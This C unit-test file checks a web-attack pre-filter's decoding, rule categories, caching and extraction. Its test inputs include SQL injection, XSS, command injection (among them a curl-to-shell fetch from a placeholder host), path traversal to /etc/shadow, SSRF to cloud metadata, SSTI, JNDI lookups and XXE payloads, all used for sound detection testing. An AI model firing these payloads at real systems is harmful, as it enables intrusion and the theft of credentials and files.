/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Pre-filter unit tests: each normalization step, the shipped rules per
 * category (a hit and near-misses that must stay silent), value extraction
 * from forms, JSON (also cut short) and cookies, and match ranges that point
 * at the text the rule saw.
 *
 *   test-prefilter RULES_DIR CACHE_DIR DATA_DIR
 */
#include <glob.h>
#include <hs/hs.h>
#include <stdio.h>
#include <stdlib.h>
#include <inttypes.h>
#include <string.h>
#include <rte_eal.h>
#include <rte_hash_crc.h>
#include <rte_malloc.h>

#include "dp.h"
#include "dp_text.h"
#include "prefilter.h"
#include "check.h"


static void
norm_is(const char *in, const char *want)
{
	char out[PF_WORK];
	int n = pf_normalize(in, (uint32_t)strlen(in), out, sizeof(out));

	if (want == NULL) {
		CHECK(n == -1, "'%s' needs no work, got %d", in, n);
		return;
	}
	CHECK(n == (int)strlen(want) && memcmp(out, want, (size_t)n) == 0,
			"'%s' -> '%.*s', want '%s'", in, n < 0 ? 0 : n, out, want);
}

static void
test_normalize(void)
{
	norm_is("hello world", NULL);
	norm_is("%27", "'");
	norm_is("%2527", "'");				/* double */
	norm_is("%252527", "'");			/* triple */
	norm_is("%u0027%u003Cscript%u003E", "'<script>");	/* IIS %u */
	norm_is("&#39;&#x27;&apos;&lt;&gt;&quot;", "'''<>\"");
	norm_is("&#x3C;svg&#62;", "<svg>");
	norm_is("%26lt%3Bscript%26gt%3B", "<script>");	/* entities inside percent */
	norm_is("\xc0\xae\xc0\xae\xc0\xaf", "../");	/* overlong UTF-8 */
	norm_is("%C0%AE%C0%AE%2F", "../");
	norm_is("\xef\xbc\x9cscript\xef\xbc\x9e", "<script>");	/* fullwidth */
	norm_is("\xe2\x91\xa0\xe2\x91\xa1\xe2\x91\xa6.\xe2\x93\xaa", "127.0");	/* circled */
	norm_is("a%00b", "ab");				/* NUL */
	norm_is("100%", "100%");			/* a lone % stays */
	norm_is("%zz", "%zz");
	norm_is("Zo\xc3\xab", "Zo\xc3\xab");		/* real UTF-8 untouched */
	char deep[128] = "'";
	for (int i = 0; i < 8; i++) {			/* 8 layers: bounded, no hang */
		char t[128];
		snprintf(t, sizeof(t), "%s", deep);
		char *o = deep;
		for (char *p = t; *p; p++)
			o += sprintf(o, *p == '\'' ? "%%27" : *p == '%' ? "%%25" : "%c", *p);
	}
	char out[PF_WORK];
	int n = pf_normalize(deep, (uint32_t)strlen(deep), out, sizeof(out));
	CHECK(n > 0 && n < (int)strlen(deep), "8 layers decode partly, boundedly: %d", n);

	char o[256];
	uint32_t k = pf_sql_collapse("UNION/**/SELECT\t\n 1", 19, o, sizeof(o));
	CHECK(k == 14 && memcmp(o, "UNION SELECT 1", 14) == 0, "sql: '%.*s'", (int)k, o);
	const char *my = "/*!50000union*/ /*!select*/ 1";
	k = pf_sql_collapse(my, (uint32_t)strlen(my), o, sizeof(o));
	CHECK(memmem(o, k, "union select", 12) != NULL, "mysql comment: '%.*s'", (int)k, o);
	const char *sh = "c'a't /e\"t\"c/pa\\sswd; who$@ami; wh$()oami ${}id";
	k = pf_sh_collapse(sh, (uint32_t)strlen(sh), o, sizeof(o));
	CHECK(k == 34 && memcmp(o, "cat /etc/passwd; whoami; whoami id", 34) == 0,
			"sh: '%.*s'", (int)k, o);
}

static struct pf_engine *engine;
static struct pf_ctx ctx;
static struct mw_event *ev;

static void
reset(void)
{
	memset(ev, 0, MW_EVENT_SIZE);
}

static unsigned int
cats_of(enum pf_class cls, const char *v)
{
	reset();
	pf_scan(&ctx, ev, cls, "p", 1, v, (uint32_t)strlen(v));
	return ev->pf_categories;
}

#define CAT(c) (1u << PF_CAT_##c)

static void
hit(enum pf_class cls, const char *v, unsigned int want)
{
	unsigned int got = cats_of(cls, v);
	CHECK(got & want, "%s '%s': categories 0x%x, want 0x%x", pf_class_names[cls], v, got, want);
}

static void
quiet(const char *v)
{
	unsigned int got = cats_of(PF_CLASS_values, v);
	CHECK(got == 0, "benign '%s' flagged 0x%x (%s)", v, got,
			ev->pf_nmatch ? engine->cat->r[ev->pf[0].rule].name : "");
}

/* The shortcut that skips the SQL reading agrees with the reading itself. */
static void
test_sql_changes(void)
{
	static const char alphabet[] = " \t\n/*!ab1";
	char s[16], out[64];
	uint32_t x = 12345, wrong = 0;

	for (int t = 0; t < 200000; t++) {
		uint32_t n = (x = x * 1103515245u + 12345u) >> 28;
		for (uint32_t i = 0; i < n; i++)
			s[i] = alphabet[((x = x * 1103515245u + 12345u) >> 16) % (sizeof(alphabet) - 1)];
		uint32_t k = pf_sql_collapse(s, n, out, sizeof(out));
		int changed = k != n || memcmp(out, s, n) != 0;
		wrong += changed != pf_sql_changes(s, n);
	}
	CHECK(wrong == 0, "pf_sql_changes disagrees with pf_sql_collapse on %u strings", wrong);
}

static void
test_categories(void)
{
	hit(PF_CLASS_values, "1' OR '1'='1", CAT(sqli));
	hit(PF_CLASS_values, "-1 UNION/**/ALL/**/SELECT null,version()--", CAT(sqli));
	hit(PF_CLASS_values, "1;WAITFOR DELAY '0:0:5'--", CAT(sqli));
	hit(PF_CLASS_path, "/films/1'/**/or/**/1=1--", CAT(sqli));
	hit(PF_CLASS_values, "<svg/onload=alert(1)>", CAT(xss));
	hit(PF_CLASS_values, "jav&#x09;ascript:alert(document.domain)", CAT(xss));
	hit(PF_CLASS_values, "\"><img src=x onerror=prompt(1)>", CAT(xss));
	hit(PF_CLASS_values, "8.8.8.8; cat /etc/passwd", CAT(cmdi));
	hit(PF_CLASS_values, "x|c'a't${IFS}/etc/pa''sswd", CAT(cmdi));
	hit(PF_CLASS_values, "`/usr/bin/w?oami`", CAT(cmdi));
	hit(PF_CLASS_values, "$(curl http://x.example/s.sh|sh)", CAT(cmdi));
	hit(PF_CLASS_values, "../../../../etc/passwd", CAT(traversal) | CAT(lfi));
	hit(PF_CLASS_path, "/download/..%252f..%252f..%252fetc%252fshadow", CAT(traversal));
	hit(PF_CLASS_values, "php://filter/convert.base64-encode/resource=index.php", CAT(lfi));
	hit(PF_CLASS_values, "http://169.254.169.254/latest/meta-data/iam/", CAT(ssrf));
	hit(PF_CLASS_values, "http://0x7f000001:6379/", CAT(ssrf));
	hit(PF_CLASS_values, "gopher://127.0.0.1:25/_HELO", CAT(ssrf));
	hit(PF_CLASS_values, "{{7*7}}", CAT(ssti));
	hit(PF_CLASS_values, "{{''.__class__.__mro__[1].__subclasses__()}}", CAT(ssti));
	hit(PF_CLASS_values, "${T(java.lang.Runtime).getRuntime().exec('id')}", CAT(ssti));
	hit(PF_CLASS_headers, "${jndi:ldap://x.example/a}", CAT(jndi));
	hit(PF_CLASS_headers, "${${lower:j}${::-n}di:rmi://x.example/a}", CAT(jndi));
	hit(PF_CLASS_names, "password[$ne]", CAT(nosqli));
	hit(PF_CLASS_names, "$where", CAT(nosqli));
	hit(PF_CLASS_names, "role", CAT(massassign));
	hit(PF_CLASS_names, "is_admin", CAT(massassign));
	hit(PF_CLASS_names, "tier", CAT(massassign));
	CHECK(cats_of(PF_CLASS_values, "role") == 0, "the value 'role' is inert");
	CHECK(cats_of(PF_CLASS_names, "type") == 0 && cats_of(PF_CLASS_names, "scope") == 0 &&
			cats_of(PF_CLASS_names, "rating") == 0, "ordinary names are no mass assignment");
	hit(PF_CLASS_values, "'; return this.password.match(/^a/); var x='", CAT(nosqli));
	hit(PF_CLASS_values, "*)(uid=*))(|(uid=*", CAT(ldapi));
	hit(PF_CLASS_values, "en%0d%0aSet-Cookie:%20admin=1", CAT(crlf));
	hit(PF_CLASS_path, "/download/report.asp::$DATA", CAT(lfi));
	hit(PF_CLASS_body, "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM "
			"\"file:///etc/passwd\">]><r>&x;</r>", CAT(xxe));
	hit(PF_CLASS_cookies, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", CAT(deserialization));
	hit(PF_CLASS_values, "O:8:\"stdClass\":1:{s:1:\"a\";}", CAT(deserialization));

	/* the generator's tricky benign content, and real-world look-alikes */
	quiet("O'Brien");
	quiet("D'Angelo & Sons");
	quiet("Select the best seat from the list");
	quiet("union station");
	quiet("drop table talk");
	quiet("rock & roll");
	quiet("{{name}}");
	quiet("${total}");
	quiet("<b>bold</b> and <em>italic</em>");
	quiet("<3");
	quiet("Zo\xc3\xab Kr\xc3\xa1kow");
	quiet("123 Union Street");
	quiet("C:\\Users\\me\\Videos");
	quiet("50% off, was $20");
	quiet("me@example.com");
	quiet("Tom's and Jerry's");
	quiet("1 + 1 = 2");
	quiet("select");
	quiet("what's up? -- nothing");
	quiet("Extras; include (but are not limited to) subtitles");
	quiet("call exit(0) when done, then md5(file) to check it");
	quiet("<?xml version=\"1.0\"?>");
}

static int
any_match(unsigned int id, unsigned long long from, unsigned long long to, unsigned int fl,
		void *c)
{
	(void)from, (void)to, (void)fl;
	if (engine->rules[id].classes != 1u << PF_CLASS_names)
		*(int *)c = 1;
	return 0;
}

/* The scanner skips short word-only values and UUIDs as inert (prefilter.c):
 * no rule may be able to fire on one, or skipping would hide it. Names are
 * never inert: a rule that reads names alone may match a short word. */
static void
test_inert_values_stay_silent(void)
{
	static const char *const words[] = {
		"1", "42", "id", "ls", "sh", "or", "and", "not", "ne", "gt", "cat", "cmd", "etc",
		"env", "sys", "ldap", "jndi", "bash", "ping", "true", "null", "where", "union",
		"select", "sleep", "alert", "script", "passwd", "whoami", "system", "eval",
		"__class__", "0x12345678", "rO0ABXNyAB", "AAEAAAD", "phpinfo", "localhost",
		"admin", "root", "delete", "drop", "exec", "onerror", "javascript", "iframe",
		"123456789ab", "UNION", "SeLeCt", "a1b2c", "nc", "curl", "wget", "rm", "dir", "ver",
		"net", "type", "echo", "chmod",
	};
	hs_scratch_t *s = NULL;

	if (hs_clone_scratch(engine->proto, &s) != HS_SUCCESS)
		return;
	for (unsigned int i = 0; i < sizeof(words) / sizeof(words[0]); i++)
		for (int d = 0; d < PF_NVAR; d++) {
			int hit = 0;
			if (engine->db[d] == NULL || strlen(words[i]) > PF_INERT_MAX)
				continue;
			/* every rule, whatever its classes: inert values skip all */
			hs_scan(engine->db[d], words[i], (unsigned int)strlen(words[i]), 0, s,
					any_match, &hit);
			CHECK(!hit, "a rule of reading %d fires on the inert value '%s'", d,
					words[i]);
		}

	/* UUIDs: the shape exactly, any case; random ones fire no rule. */
	CHECK(dp_is_uuid("70635aa6-1118-1d76-51f4-01bc990babc9"), "uuid");
	CHECK(dp_is_uuid("70635AA6-1118-1D76-51F4-01BC990BABC9"), "upper-case uuid");
	CHECK(!dp_is_uuid("70635aa6-1118-1d76-51f4-01bc990babcg"), "not hex");
	CHECK(!dp_is_uuid("70635aa6-11181-d76-51f4-01bc990babc9"), "dash moved");
	CHECK(!dp_is_uuid("70635aa6 1118-1d76-51f4-01bc990babc9"), "space for a dash");
	uint64_t x = 0x9e3779b97f4a7c15ull;
	int fired = 0;
	for (int i = 0; i < 20000; i++) {
		char u[37];
		for (int k = 0; k < 36; k++) {
			x ^= x << 13, x ^= x >> 7, x ^= x << 17;
			u[k] = "0123456789abcdef"[x % 16];
		}
		u[8] = u[13] = u[18] = u[23] = '-';
		u[36] = '\0';
		for (int d = 0; d < PF_NVAR; d++) {
			int hit = 0;
			if (engine->db[d] != NULL)
				hs_scan(engine->db[d], u, 36, 0, s, any_match, &hit);
			fired += hit;
		}
	}
	CHECK(fired == 0, "rules fired on %d of 20000 random UUIDs", fired);
	uint64_t before = ctx.inert;
	CHECK(cats_of(PF_CLASS_headers, "70635aa6-1118-1d76-51f4-01bc990babc9") == 0 &&
			ctx.inert == before + 1, "a UUID is not scanned");
	CHECK(cats_of(PF_CLASS_headers, "70635aa6-1118-1d76-51f4-01bc990babc9' or 1=1--") &
			CAT(sqli), "a UUID with more after it is");
	hs_free_scratch(s);
}

/* Referer and Origin are URLs by definition: the rules about URLs given as
 * values (any URL, a script's URL, a short link) leave them alone; those
 * about where a URL points, and every payload rule, do not. */
static void
test_url_headers(void)
{
	static const char *const pages[] = {
		"https://www.dvdrental.example/films/search?q=dinosaur",
		"https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.dvdrental.example%2F&h=AT0x",
		"https://t.co/Xk2pQ9aZ1b", "https://www.google.com/", "https://shop.example",
	};
	for (size_t i = 0; i < RTE_DIM(pages); i++) {
		reset();
		pf_scan_url(&ctx, ev, "Referer", 7, pages[i], (uint32_t)strlen(pages[i]));
		CHECK(ev->pf_categories == 0, "Referer '%s' flagged 0x%x", pages[i],
				ev->pf_categories);
	}
	CHECK(cats_of(PF_CLASS_headers, pages[0]) & CAT(ssrf), "the same URL in another header is");
	static const struct { const char *v; unsigned int want; } bad[] = {
		{ "http://169.254.169.254/latest/meta-data/", CAT(ssrf) },
		{ "http://10.0.0.5:6379/", CAT(ssrf) },
		{ "https://www.dvdrental.example/films' AND 4523=4523-- x", CAT(sqli) },
		{ "https://x.example/\"><script>alert(1)</script>", CAT(xss) },
		{ "${jndi:ldap://x.example/a}", CAT(jndi) },
	};
	for (size_t i = 0; i < RTE_DIM(bad); i++) {
		reset();
		pf_scan_url(&ctx, ev, "Referer", 7, bad[i].v, (uint32_t)strlen(bad[i].v));
		CHECK(ev->pf_categories & bad[i].want, "Referer '%s': 0x%x, want 0x%x", bad[i].v,
				ev->pf_categories, bad[i].want);
		CHECK(ev->pf_nmatch && ev->pf[0].field == PF_CLASS_headers,
				"recorded as a header");
	}
}

/* Payloads in the style of real attack tools and code injection, and benign
 * look-alikes (tests/data): every payload caught with its category, few
 * benign flagged. */
static void
test_corpora(const char *dir)
{
	static const char *const files[] = {
		"pf_tool_payloads.tsv", "code_injection.tsv", "pf_tricky_benign.tsv",
	};
	char path[4096], line[4096];
	int n[2] = { 0, 0 }, flagged[2] = { 0, 0 };

	for (size_t i = 0; i < RTE_DIM(files); i++) {
		int benign = i == RTE_DIM(files) - 1;
		snprintf(path, sizeof(path), "%s/%s", dir, files[i]);
		FILE *f = fopen(path, "r");
		CHECK(f != NULL, "%s", path);
		if (f == NULL)
			continue;
		while (fgets(line, sizeof(line), f)) {
			line[strcspn(line, "\n")] = '\0';
			char *tab = strchr(line, '\t');
			if (line[0] == '#' || tab == NULL)
				continue;
			*tab = '\0';
			unsigned int want = 0;
			for (int k = 0; k < PF_CAT_MAX; k++)
				if (strcmp(line, pf_category_names[k]) == 0)
					want = 1u << k;
			if (want & CAT(traversal))
				want |= CAT(lfi) | CAT(rfi);
			if (want & CAT(ssrf))
				want |= CAT(rfi);
			unsigned int got = cats_of(PF_CLASS_values, tab + 1);
			n[benign]++;
			flagged[benign] += benign ? got != 0 : (got & want) != 0;
			if (!benign)
				CHECK(got & want, "%s payload not caught: %s", line, tab + 1);
		}
		fclose(f);
	}
	printf("tool-style payloads caught: %d/%d; tricky benign flagged: %d/%d\n", flagged[0], n[0],
			flagged[1], n[1]);
	CHECK(n[0] > 0 && n[1] > 0, "corpora read");
	CHECK(flagged[1] <= 3, "%d tricky benign values flagged", flagged[1]);
}

/* Clean values are remembered exactly; flagged ones never are. */
static void
test_clean_cache(void)
{
	const char *ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
	const char *bad = "Mozilla/5.0 ${jndi:ldap://x.example/a}";
	uint64_t before = ctx.cached;

	cats_of(PF_CLASS_headers, ua);
	CHECK(cats_of(PF_CLASS_headers, ua) == 0 && ctx.cached == before + 1, "clean value remembered");
	CHECK(cats_of(PF_CLASS_values, ua) == 0 && ctx.cached == before + 1,
			"another class is another question");
	for (int i = 0; i < 3; i++)
		CHECK(cats_of(PF_CLASS_headers, bad) & CAT(jndi), "flagged every time (%d)", i);
	CHECK(ctx.cached == before + 1, "a flagged value is never taken as known clean");
	char almost[128];
	snprintf(almost, sizeof(almost), "%s", ua);
	almost[strlen(almost) - 1] = '\'';
	cats_of(PF_CLASS_headers, almost);
	CHECK(ctx.cached == before + 1, "one byte different is a different value");

	/* the long table: a bearer token, the same rules */
	char tok[700], evil[700];
	int n = snprintf(tok, sizeof(tok), "Bearer eyJhbGciOiJSUzI1NiJ9.");
	for (; n < 600; n++)
		tok[n] = (char)('a' + n % 26);
	tok[n] = '\0';
	before = ctx.cached;
	CHECK(cats_of(PF_CLASS_headers, tok) == 0 && ctx.cached == before, "a long value is scanned");
	CHECK(cats_of(PF_CLASS_headers, tok) == 0 && ctx.cached == before + 1,
			"a long clean value is remembered");
	memcpy(evil, tok, (size_t)n + 1);
	memcpy(evil + 300, "' or 1=1-- ", 11);
	for (int i = 0; i < 2; i++)
		CHECK(cats_of(PF_CLASS_headers, evil) & CAT(sqli), "long flagged every time (%d)", i);
	CHECK(ctx.cached == before + 1, "a long flagged value is never taken as known clean");

	/* Two ways per set: two values that hash to one set are both kept; a
	 * third evicts the one not used last. */
	char v[3][200];
	uint32_t set = 0;
	int found = 0;
	for (int i = 0; found < 3 && i < 1000000; i++) {
		char cand[200];
		int l = snprintf(cand, sizeof(cand), "client-%d ", i);
		memset(cand + l, 'x', sizeof(cand) - 1 - (size_t)l);
		cand[sizeof(cand) - 1] = '\0';
		uint32_t s = rte_hash_crc(cand, sizeof(cand) - 1, PF_CLASS_headers) &
			(PF_LONG_SETS - 1);
		if (found == 0)
			set = s;
		if (s == set)
			memcpy(v[found++], cand, sizeof(cand));
	}
	CHECK(found == 3, "three values of one set");
	before = ctx.cached;
	cats_of(PF_CLASS_headers, v[0]);
	cats_of(PF_CLASS_headers, v[1]);
	cats_of(PF_CLASS_headers, v[0]);
	cats_of(PF_CLASS_headers, v[1]);
	CHECK(ctx.cached == before + 2, "both ways kept (%" PRIu64 ")", ctx.cached - before);
	cats_of(PF_CLASS_headers, v[2]);	/* evicts v[0], used before v[1] */
	cats_of(PF_CLASS_headers, v[1]);
	CHECK(ctx.cached == before + 3, "the way used last stays");
	cats_of(PF_CLASS_headers, v[0]);
	CHECK(ctx.cached == before + 3, "the other gave way");
}

static void
test_extraction_and_ranges(void)
{
	const char *q = "page=2&q=1%27%20or%20%271%27%3D%271&sort=name";
	uint16_t n;

	reset();
	pf_scan_form(&ctx, ev, q, (uint32_t)strlen(q));
	const char *t = mw_event_field(ev, MW_FIELD_norm, &n);
	CHECK(ev->pf_categories & CAT(sqli), "form value");
	CHECK(n > 2 && memcmp(t, "q=", 2) == 0, "record names the parameter: '%.*s'", n, t);
	if (ev->pf_nmatch) {
		const struct mw_match *m = &ev->pf[0];
		CHECK(m->from < m->to && m->to <= n && memmem(t + m->from, m->to - m->from, "'", 1),
				"range %u..%u inside '%.*s'", m->from, m->to, n, t);
		CHECK(m->field == PF_CLASS_values, "field class %u", m->field);
	}
	const char *js = "{\"user\":{\"$ne\":null},\"note\":\"\\u003cscript\\u003e\"}";
	reset();
	pf_scan_json(&ctx, ev, js, (uint32_t)strlen(js));
	CHECK((ev->pf_categories & (CAT(nosqli) | CAT(xss))) == (CAT(nosqli) | CAT(xss)),
			"json key and escaped value: 0x%x", ev->pf_categories);
	const char *cut = "{\"a\":1,\"bio\":\"hi <script>alert(docu";
	reset();
	pf_scan_json(&ctx, ev, cut, (uint32_t)strlen(cut));
	CHECK(ev->pf_categories & CAT(xss), "json cut inside a value: 0x%x", ev->pf_categories);
	const char *ck = "sid=abc123; theme=%3Csvg%20onload%3Dalert(1)%3E; lang=en";
	reset();
	pf_scan_cookies(&ctx, ev, ck, (uint32_t)strlen(ck));
	t = mw_event_field(ev, MW_FIELD_norm, &n);
	CHECK((ev->pf_categories & CAT(xss)) && n > 6 && memcmp(t, "theme=", 6) == 0,
			"cookie value: '%.*s'", n, t);

	/* many matches: the event keeps the strongest, never overflows */
	static const char *const many[] = {
		"x<script>alert(1)</script>", "1 union select 1,2--", "; cat /etc/passwd",
		"../../../etc/shadow", "${jndi:ldap://x/a}", "{{7*7}}", "http://169.254.169.254/",
		"' or 1=1--", "<svg onload=confirm(1)>", "$(whoami)", "php://filter/resource=x",
		"{\"$ne\": 1}", "*)(uid=*", "rO0ABXNyABFqYXZhLnV0aWwu",
	};
	reset();
	for (int r = 0; r < 3; r++)
		for (unsigned int i = 0; i < sizeof(many) / sizeof(many[0]); i++)
			pf_scan(&ctx, ev, PF_CLASS_values, "v", 1, many[i], (uint32_t)strlen(many[i]));
	CHECK(ev->pf_nmatch == MW_EVENT_MAX_MATCHES, "bounded: %u", ev->pf_nmatch);
	for (int i = 0; i < ev->pf_nmatch; i++)
		CHECK(engine->cat->r[ev->pf[i].rule].severity >= 3, "kept a weak match over a strong one");
	CHECK(ev->field[MW_FIELD_norm].off + ev->field[MW_FIELD_norm].len <= MW_EVENT_DATA_SIZE,
			"norm text fits");
}

int
main(int argc, char **argv)
{
	char pattern[4096];
	glob_t gl;

	if (argc != 4) {
		fprintf(stderr, "usage: test-prefilter RULES_DIR CACHE_DIR DATA_DIR\n");
		return 2;
	}
	snprintf(pattern, sizeof(pattern), "%s/*.rules", argv[1]);
	if (test_eal_init(argv[0], "128") < 0 || glob(pattern, 0, NULL, &gl) != 0)
		return 2;
	test_normalize();
	test_sql_changes();
	engine = pf_engine_load((const char *const *)gl.gl_pathv, (int)gl.gl_pathc, argv[2], NULL,
			stderr);
	if (engine == NULL || pf_ctx_init(&ctx, engine, 0) < 0)
		return 2;
	ev = rte_zmalloc("ev", MW_EVENT_SIZE, 64);
	test_categories();
	test_inert_values_stay_silent();
	test_clean_cache();
	test_url_headers();
	test_corpora(argv[3]);
	test_extraction_and_ranges();
	printf("%d checks, %d failed\n", checks, failures);
	pf_ctx_free(&ctx);
	pf_engine_free(engine);
	globfree(&gl);
	rte_eal_cleanup();
	return failures ? 1 : 0;
}
